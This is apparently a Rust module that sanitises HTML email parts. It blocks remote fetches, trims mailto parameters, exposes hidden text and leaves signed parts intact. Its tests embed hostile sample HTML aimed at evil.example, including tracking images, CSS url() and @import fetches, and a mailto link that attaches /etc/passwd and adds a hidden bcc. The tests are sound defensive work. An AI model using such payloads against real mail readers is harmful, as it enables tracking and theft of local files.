//! HTML that came encrypted, without what tells somebody outside about it: nothing in it is fetched, no link attaches
//! files of the reader's or writes the answer for them, and text that was hidden shows (CASES T-37).
//!
//! What is signed stays octet for octet.

use std::borrow::Cow;

use ammonia::{Builder, UrlRelative};
use mime::{Entity, Field};

/// What became of a message.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Cleaned {
    /// There is no HTML in it.
    Nothing,
    /// There is, under a signature, and so it is as it was.
    Signed,
    /// It is another now.
    Changed {
        entity: Vec<u8>,
        /// Some of it is under a signature, and as it was.
        signed: bool,
    },
}

/// Cleans an entity.
///
/// # Errors
/// When it has more parts, or deeper ones, than anything should.
pub(crate) fn clean(entity: &[u8]) -> Result<Cleaned, mime::Error> {
    let mut writing = Writing::default();
    let parsed = Entity::parse(entity, &mime::Limits::default())?;
    writing.entity(&parsed, DEEPEST)?;
    Ok(match (writing.changed, writing.signed) {
        (true, signed) => Cleaned::Changed { entity: writing.out, signed },
        (false, true) => Cleaned::Signed,
        (false, false) => Cleaned::Nothing,
    })
}

#[derive(Debug, Default)]
struct Writing {
    out: Vec<u8>,
    changed: bool,
    signed: bool,
}

impl Writing {
    fn entity(&mut self, entity: &Entity, depth: usize) -> Result<(), mime::Error> {
        let depth =
            depth.checked_sub(1).ok_or(mime::Error::TooMuch { what: "messages in messages", limit: DEEPEST })?;
        let essence = entity.essence();
        match essence.as_str() {
            "multipart/signed" => {
                self.signed |= entity.walk().iter().any(|part| is_html(&part.essence()));
                self.as_it_is(entity);
            }
            "message/rfc822" if entity.header().transfer_encoding() != "base64" => {
                let inner = Entity::parse(entity.body(), &mime::Limits::default())?;
                self.out.extend_from_slice(entity.header_bytes());
                self.entity(&inner, depth)?;
            }
            _ if !entity.parts().is_empty() => self.parts(entity, depth)?,
            // With two Content-Type fields nobody knows what it is: text shows what is in it.
            _ if entity.is_ambiguous() => self.leaf(entity, "text/plain", &entity.text()),
            essence if is_html(essence) && !is_file(entity) => {
                let html = entity.text();
                if html.len() > LARGEST {
                    self.leaf(entity, "text/plain", &html);
                } else {
                    self.leaf(entity, "text/html", &clean_text(&html));
                }
            }
            _ => self.as_it_is(entity),
        }
        Ok(())
    }

    fn as_it_is(&mut self, entity: &Entity) {
        self.out.extend_from_slice(entity.header_bytes());
        self.out.extend_from_slice(entity.body());
    }

    fn parts(&mut self, entity: &Entity, depth: usize) -> Result<(), mime::Error> {
        let kind = entity.header().content_type();
        let boundary = kind.as_ref().and_then(|kind| kind.parameter("boundary")).unwrap_or_default();
        self.out.extend_from_slice(entity.header_bytes());
        for part in entity.parts() {
            self.out.extend_from_slice(format!("--{boundary}\r\n").as_bytes());
            self.entity(part, depth)?;
            self.out.extend_from_slice(b"\r\n");
        }
        self.out.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
        Ok(())
    }

    /// In base64: no boundary is in that.
    fn leaf(&mut self, entity: &Entity, essence: &str, text: &str) {
        let mut header = entity.header().clone();
        header.retain(|field| !field.is("Content-Type") && !field.is("Content-Transfer-Encoding"));
        header.push(Field::new("Content-Type", &format!("{essence}; charset=utf-8")));
        header.push(Field::new("Content-Transfer-Encoding", "base64"));
        self.out.extend_from_slice(&header.to_bytes());
        self.out.extend_from_slice(b"\r\n");
        self.out.extend_from_slice(mime::encode_base64(text.as_bytes()).as_bytes());
        self.changed = true;
    }
}

fn is_html(essence: &str) -> bool {
    matches!(essence, "text/html" | "application/xhtml+xml")
}

/// A file is opened by whoever wants to, and not shown as the message.
fn is_file(entity: &Entity) -> bool {
    entity.header().disposition().is_some_and(|disposition| disposition.kind.eq_ignore_ascii_case("attachment"))
}

fn clean_text(html: &str) -> String {
    let clean = Builder::default()
        .add_generic_attributes(["style"])
        .add_tags(["font"])
        .add_tag_attributes("font", ["color", "size", "face"])
        .add_clean_content_tags(["title"])
        .url_schemes(["http", "https", "mailto", "tel", "cid"].into_iter().collect())
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .attribute_filter(|element, name, value| match (element, name) {
            // What comes with the message is shown, and nothing else is fetched.
            ("img", "src") => starts_with(value, "cid:").then_some(Cow::Borrowed(value)),
            (_, "src" | "cite" | "longdesc") => None,
            (_, "href") if starts_with(value, "mailto:") => Some(Cow::Owned(without_parameters(value))),
            (_, "style") => Some(style(value)).filter(|style| !style.is_empty()).map(Cow::Owned),
            _ => Some(Cow::Borrowed(value)),
        })
        .clean(html)
        .to_string();
    format!("<!DOCTYPE html>\r\n<html><body>{clean}</body></html>\r\n")
}

fn starts_with(value: &str, scheme: &str) -> bool {
    value.trim_start().get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
}

/// Of a mailto: link the address and the subject: the rest attaches files, adds recipients, or writes for the reader.
fn without_parameters(link: &str) -> String {
    let Some((address, parameters)) = link.split_once('?') else { return link.to_owned() };
    let subject = parameters.split('&').find(|parameter| starts_with(parameter, "subject="));
    subject.map_or_else(|| address.to_owned(), |subject| format!("{address}?{subject}"))
}

/// Declarations that only change how text looks. Where they would hide it, it gets a frame instead.
fn style(declarations: &str) -> String {
    let declarations = declarations.to_ascii_lowercase();
    // Escapes and comments make one thing look like another; without any style the text shows.
    if declarations.contains(['\\', '@', '<']) || declarations.contains("/*") {
        return String::new();
    }
    let pairs: Vec<(&str, &str)> = declarations
        .split(';')
        .filter_map(|declaration| declaration.split_once(':'))
        .map(|(name, value)| (name.trim(), value.trim().trim_end_matches("!important").trim()))
        .collect();
    let value = |wanted: &str| pairs.iter().rev().find(|(name, _)| *name == wanted).map(|(_, value)| *value);
    let background = value("background-color").or_else(|| value("background"));
    let unseen = value("color").is_some_and(|color| color == "transparent" || Some(color) == background);
    if unseen || pairs.iter().any(|(name, value)| hides(name, value)) {
        return HIDDEN.to_owned();
    }
    let fetches = |value: &str| value.contains(['(', '"', '\'']) && !value.starts_with("rgb(");
    let harmless = pairs.iter().filter(|(name, value)| LOOKS.contains(name) && !fetches(value));
    harmless.map(|(name, value)| format!("{name}:{value}")).collect::<Vec<_>>().join(";")
}

fn hides(name: &str, value: &str) -> bool {
    let number = value.trim_end_matches(|c: char| c.is_ascii_alphabetic() || c == '%');
    let number = number.parse::<f64>().ok();
    match name {
        "display" => value == "none",
        "visibility" => matches!(value, "hidden" | "collapse"),
        "mso-hide" => value == "all",
        "opacity" => number.is_some_and(|number| number < 0.1),
        "font-size" => number.is_some_and(|number| number < 2.0 && !value.ends_with("em") || number < 0.2),
        "text-indent" => number.is_some_and(|number| number < -50.0),
        "height" | "max-height" | "width" | "max-width" | "line-height" => number.is_some_and(|number| number == 0.0),
        _ => false,
    }
}

/// How text looks that was meant not to be seen.
const HIDDEN: &str = "border:2px dashed #c00;color:#000;background-color:#fff";

const LOOKS: &[&str] = &[
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-left",
    "border-right",
    "border-top",
    "color",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "line-height",
    "margin",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "padding",
    "padding-bottom",
    "padding-left",
    "padding-right",
    "padding-top",
    "text-align",
    "text-decoration",
    "vertical-align",
    "white-space",
    "width",
];

const DEEPEST: usize = 20;
/// More than any letter has; a larger one shows its source.
const LARGEST: usize = 4 << 20;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn t_37_nothing_is_fetched_and_nothing_hidden_stays_so() {
        let dirty = "<html><head><title>T</title><style>@import url(//evil.example/1);p{display:none}</style>\
            <link rel=stylesheet href=https://evil.example/2><base href=//evil.example></head><body background=//evil.example/3>\
            <img src=https://evil.example/4><img src=\"cid:logo@x\"><img srcset=//evil.example/5 src=//evil.example/6>\
            <p style=\"color:#333;background:url(//evil.example/7)\">one</p>\
            <p style=\"font-weight:bold;background-image:ur\\l(//evil.example/8)\">two</p>\
            <div style=\"DISPLAY : none\">secret</div><span style=\"font-size:1px\">secret</span>\
            <span style=\"color:#fff;background-color:#fff\">secret</span><p hidden>secret</p>\
            <a href=\"mailto:eve@evil.example?subject=x&amp;attach=/etc/passwd&amp;bcc=b@evil.example&amp;body=b\">write</a>\
            <a href=https://good.example/>link</a><video src=//evil.example/9><iframe src=//evil.example/10></iframe>\
            <form action=//evil.example/11><input></form><p style=\"color:red;text-align:center\">three</p>";
        let clean = clean_text(dirty);
        for gone in
            ["evil.example/", "style>", "@import", "attach", "bcc", "body=", "display", "font-size", "url", "base"]
        {
            assert!(!clean.contains(gone), "{gone} is in {clean}");
        }
        assert_eq!(clean.matches("dashed").count(), 3, "{clean}");
        assert_eq!(clean.matches("secret").count(), 4, "{clean}");
        for kept in ["cid:logo@x", "mailto:eve@evil.example?subject=x\"", "https://good.example/", "text-align:center"]
        {
            assert!(clean.contains(kept), "{kept} is not in {clean}");
        }
    }

    #[test]
    fn t_37_only_html_is_another_afterwards_and_what_is_signed_is_not() {
        let html = "Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
                    <p>Gr=FC=DFe<img src=3D\"https://evil.example/\"></p>\r\n";
        let plain = "Content-Type: text/plain\r\n\r\n<img src=\"https://evil.example/\">\r\n";
        let signed =
            format!("Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\n{html}\r\n--s\r\n{plain}\r\n--s--\r\n");
        let mixed = |parts: &[&str]| {
            let parts: String = parts.iter().map(|part| format!("--b\r\n{part}\r\n")).collect();
            format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n{parts}--b--\r\n")
        };
        assert_eq!(clean(plain.as_bytes()).unwrap(), Cleaned::Nothing);
        assert_eq!(clean(signed.as_bytes()).unwrap(), Cleaned::Signed);
        let forwarded = format!("Content-Type: message/rfc822\r\n\r\nSubject: x\r\n{html}");
        let all = mixed(&[plain, html, &signed, &forwarded]);
        let Cleaned::Changed { entity, signed: true } = clean(all.as_bytes()).unwrap() else { panic!("not changed") };
        let parsed = Entity::parse(&entity, &mime::Limits::default()).unwrap();
        let bytes = |part: &Entity| String::from_utf8([part.header_bytes(), part.body()].concat()).unwrap();
        assert_eq!(
            (parsed.parts().len(), bytes(&parsed.parts()[0]), bytes(&parsed.parts()[2])),
            (4, plain.into(), signed)
        );
        let inner = Entity::parse(parsed.parts()[3].body(), &mime::Limits::default()).unwrap();
        for html in [&parsed.parts()[1], &inner] {
            assert!(html.text().contains("Gr\u{fc}\u{df}e") && !html.text().contains("evil"), "{}", html.text());
        }
        let two =
            clean(b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=//evil.example>\r\n").unwrap();
        let Cleaned::Changed { entity, .. } = two else { panic!("{two:?}") };
        assert_eq!(Entity::parse(&entity, &mime::Limits::default()).unwrap().essence(), "text/plain");
    }
}
